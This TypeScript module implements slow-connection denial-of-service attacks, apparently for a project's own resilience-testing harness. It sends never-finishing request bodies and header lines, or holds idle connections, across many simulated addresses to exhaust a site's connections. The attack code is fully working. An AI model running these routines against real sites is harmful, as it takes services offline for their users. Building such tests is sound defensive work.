import type { Socket } from 'node:net';
import { type Attack, type AttackContext, openSocket, pause } from './attack.ts';

/** Requests that never end: each costs their sender a byte a second, and the site a connection. */

const BYTE_EVERY_MS = 1_000;
/** How many connections one attacker address opens. */
const PER_ADDRESS = 50;

/** A thousand request bodies, a byte a second each. */
export const slowBodies: Attack = (context) => {
	const { host, origin } = context.target;
	const head =
		`POST /account/sign-in?_action=account.signIn HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${origin}\r\n` +
		'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\n';
	return hold(context, 1_000, 120, (socket) => socket.write(head), 'a');
};

/** Hundreds of header blocks, a line a second each. */
export const slowHeaders: Attack = (context) =>
	hold(context, 300, 150, (socket) => socket.write(`GET / HTTP/1.1\r\nHost: ${context.target.host}\r\n`), 'a: b\r\n');

/** Connections that say nothing at all. */
export const idleConnections: Attack = (context) => hold(context, 1_000, 180, () => true, '');

/** Keeps this many connections open; each sends `start` and then `rest` every second. What is closed is opened again. */
async function hold(
	context: AttackContext,
	connections: number,
	firstAddress: number,
	start: (socket: Socket) => boolean,
	rest: string,
): Promise<void> {
	const { signal, count } = context;
	const open = new Set<Socket>();
	let opened = 0;
	while (!signal.aborted) {
		// A tenth at a time: a wave of connections would be an attack of its own.
		for (let n = 0; n < connections / 10 && open.size < connections; n++) {
			const socket = openSocket(context, firstAddress + Math.floor((opened++ % connections) / PER_ADDRESS));
			open.add(socket);
			socket.on('close', () => open.delete(socket));
			socket.on('data', (chunk: Buffer) => count(chunk.toString('latin1', 9, 12)));
			start(socket);
		}
		await pause(BYTE_EVERY_MS, signal);
		if (rest !== '') for (const socket of open) if (socket.writable) socket.write(rest);
	}
	for (const socket of open) socket.destroy();
}
